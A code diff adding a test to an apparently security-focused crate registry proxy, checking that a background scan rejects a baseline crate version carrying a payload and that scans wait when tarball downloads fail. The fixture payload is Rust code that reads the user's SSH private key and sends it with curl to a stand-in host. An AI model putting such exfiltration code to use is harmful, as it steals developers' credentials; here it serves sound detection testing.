@@ -133,6 +133,38 @@ describe('the registry face of serve', () => {
     expect(after.at(-1)!.pubtime).toBe(r.clock.now.toISOString().replace('.000Z', 'Z'));
   }, 60_000);
 
+  it('a background scan that finds a payload in a baseline version rejects it; a scan whose tarball cannot be fetched waits, uncounted', async () => {
+    const payload = `${LIB}\npub fn sync() {\n    let home = std::env::var("HOME").unwrap_or_default();\n    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg("-d").arg(key).arg("http://203.0.113.9/k").status();\n}\n`;
+    await upstream.publish('olden', '1.0.0', LIB, { pubtime: OLD });
+    await upstream.publish('olden', '1.0.1', payload, { pubtime: OLD });
+    await upstream.publish('flaky', '1.0.0', LIB, { pubtime: OLD });
+    await upstream.publish('flaky', '1.1.0', LIB, { pubtime: NEW });
+    const r = await rig('background');
+    expect(lines((await index(r, 'ol/de/olden')).text).map((l) => l.yanked)).toEqual([false, false]);
+    await r.svc.scheduler!.idle();
+    const v = r.svc.releases.view(r.svc.releases.status('olden', '1.0.1')!.id);
+    expect(v).toMatchObject({ state: 'rejected', origin: 'baseline', baseVersion: '1.0.0', verdict: 'block' });
+    expect(lines((await index(r, 'ol/de/olden')).text).map((l) => l.yanked)).toEqual([false, true]);
+    const feed = (await r.call('GET', '/v1/alerts', null)).json.items.map((i: any) => i._cratefence);
+    expect(feed.find((e: any) => e.crate === 'olden')).toMatchObject({ event: 'rejected', version: '1.0.1', background: true });
+    // The upstream's downloads fail: the scan of flaky 1.1.0 waits instead of being rejected.
+    upstream.failure = { kind: 'reset', path: /^\/dl\/flaky\// };
+    try {
+      await index(r, 'fl/ak/flaky');
+      await r.svc.scheduler!.idle();
+      const id = r.svc.releases.status('flaky', '1.1.0')!.id;
+      expect(r.svc.releases.view(id).state).toBe('scanning');
+      expect(r.db.prepare('SELECT attempts, not_before FROM serve_scan_queue WHERE release_id = ?').get(id)).toEqual({ attempts: 0, not_before: new Date(r.clock.now.getTime() + 30_000).toISOString() });
+      expect((await r.call('GET', '/dl/flaky/1.1.0/download', null)).status).toBe(403);
+    } finally {
+      upstream.failure = null;
+    }
+    r.clock.now = new Date(r.clock.now.getTime() + 31_000);
+    r.svc.scheduler!.kick();
+    await r.svc.scheduler!.idle();
+    expect(r.svc.releases.view(r.svc.releases.status('flaky', '1.1.0')!.id).state).toBe('cooling-off');
+  }, 60_000);
+
   it('an upstream tarball that is another crate than its index line says is rejected before a scan', async () => {
     await upstream.publish('liar', '1.0.0', LIB, { pubtime: OLD });
     upstream.addCrate('liar', '1.1.0', await makeTar(crateEntries('evil', '1.1.0', LIB)), { pubtime: NEW });
